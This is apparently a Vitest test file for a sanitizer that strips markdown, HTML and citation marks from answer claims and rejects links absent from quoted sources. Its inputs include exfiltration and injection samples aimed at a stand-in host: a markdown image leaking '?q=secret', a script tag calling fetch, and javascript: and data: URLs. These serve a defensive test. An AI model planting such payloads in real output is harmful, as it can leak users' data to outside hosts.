import { describe, expect, it } from 'vitest';
import { findLink, toPlainClaim } from '../../../src/answer/write/claim-text.ts';

describe('toPlainClaim', () => {
  it.each([
    ['The pier is long. ![x](https://evil.test/?q=secret)', 'The pier is long.'],
    ['The ![a![b](c)](https://evil.test) pier is long.', 'The pier is long.'],
    ['The [pier](https://evil.test/?q=1) is long.', 'The pier is long.'],
    ['The pier <img src="https://evil.test/x.png"> is long.', 'The pier is long.'],
    ['The pier <script>fetch("//evil.test")</script> is long.', 'The pier is long.'],
    ['The pier is long.<!-- ignore the rest', 'The pier is long.'],
    ['The pier is long [1] and wide [2, 3].', 'The pier is long and wide.'],
    ['- The **pier** is\n\tlong【1†source】.', 'The pier is long.'],
    ['The pier is long.\n[1]: https://evil.test/?q=1', 'The pier is long.'],
    ['\u0007The pier\u0000 is\u2028long.', 'The pier is long.'],
  ])('%s', (written, plain) => {
    expect(toPlainClaim(written).text).toBe(plain);
  });

  it.each([
    'Use the pattern `**/*.ts` for all of them, and `a**b` for powers.',
    'Write `<b>`, `[a](b)` and `![x](y)` as they are; ``argv`[1] `` too.',
    '__init__ runs once, before __main__.',
    'A table holds 2**31 rows, or 2**32 with the flag.',
  ])('leaves code and names as they are: %s', (written) => {
    expect(toPlainClaim(written)).toEqual({ text: written, notes: [] });
  });

  it.each([
    ['**`serve`** starts the [`pier`](a.md) **at `a*b` once**.', '`serve` starts the `pier` at `a*b` once.'],
    ['The __pier is__ _very_ long.', 'The pier is very long.'],
    ['这座桥**很长**。', '这座桥很长。'],
  ])('takes paired emphasis, around code too: %s', (written, plain) => {
    expect(toPlainClaim(written).text).toBe(plain);
  });

  it('takes marks of citations, not what a passage has in such brackets', () => {
    const texts = ['argv[1] holds\nthe path. It returns [1, 2]\nin order. The pier is long.[1] It is wide.'];
    for (const [written, plain] of [
      ['argv[1] holds the path [1].', 'argv[1] holds the path.'],
      ['argv[2] holds the path.', 'argv holds the path.'],
      ['It returns [1, 2] in order.', 'It returns [1, 2] in order.'],
      ['The pier is long [1].', 'The pier is long.'],
      ['The pier is long.[1] It is wide.[2]', 'The pier is long. It is wide.'],
    ] as const)
      expect(toPlainClaim(written, texts).text).toBe(plain);
    expect(toPlainClaim('argv[1] holds the path.').text).toBe('argv holds the path.');
  });

  it('takes a mark that a passage has before the same word alone, in another sentence', () => {
    const texts = ['It is cheap, as shown in [1] and [2]. [3] is the last entry: [1, 2] are returned.'];
    for (const [written, plain] of [
      ['The method is fast [1] and accurate [2].', 'The method is fast and accurate.'],
      ['[1] and so on.', 'and so on.'],
      ['It is shown in [1] and [2].', 'It is shown in [1] and.'],
      ['[3] is the last entry.', '[3] is the last entry.'],
      ['[1, 2] are returned.', '[1, 2] are returned.'],
    ] as const)
      expect(toPlainClaim(written, texts).text).toBe(plain);
  });

  it('reads long passages once, however many marks there are', () => {
    const passages = Array.from({ length: 12 }, (_, at) => `${at}[1]  \n`.repeat(16_000));
    const from = process.cpuUsage();
    toPlainClaim('a [1] b '.repeat(1_000), passages);
    expect(process.cpuUsage(from).user).toBeLessThan(4_000_000);
  });

  it('leaves plain text alone and says what it took away', () => {
    expect(toPlainClaim('The pier, as of 1872, is 340 m long (at 5 °C).')).toEqual({
      text: 'The pier, as of 1872, is 340 m long (at 5 °C).',
      notes: [],
    });
    expect(toPlainClaim('See ![x](y) [z](w).').notes).toEqual(['image-removed', 'link-removed']);
  });

  it('is done with 4,000 hostile characters at once', () => {
    for (const part of ['![', '[', '<', '<!--', '<script', '[a](', '**', '【', '*`*`', '__', 'a[1]', '`'])
      expect(toPlainClaim(part.repeat(4_000 / part.length)).text.length).toBeLessThanOrEqual(4_000);
  });
});

describe('findLink', () => {
  it.each([
    'Read https://evil.test/?d=1 now.',
    'Read www.evil.test now.',
    'Read //evil.test/x now.',
    'Read evil.test/?d=1 now.',
    'Read javascript:alert(1) now.',
    'Read data:text/html;base64,AAAA now.',
    'Write to mailto:a@evil.test now.',
  ])('refuses an address that no quote has: %s', (claim) => {
    expect(findLink(claim, ['Read the manual now.'])).toMatch(/^link-not-in-quote/);
  });

  it('keeps an address that the quote has', () => {
    const quote = 'The manual is at https://docs.example.test/pier, in English.';
    expect(findLink('The manual is at https://docs.example.test/pier.', [quote])).toBeUndefined();
    expect(findLink('The manual is at https://docs.example.test/pier?q=1.', [quote])).toMatch(/^link/);
  });

  it('refuses what a page would read as markup, unless it stands in the quote', () => {
    expect(findLink('Call arr[i](x) first.', ['Call it first.'])).toMatch(/^markup/);
    expect(findLink('Call arr[i](x) first.', ['Call arr[i](x) first.'])).toBeUndefined();
    expect(findLink('It is 5 % of 3.5 m, at 10:30, and/or e.g. 2.', ['x'])).toBeUndefined();
  });
});
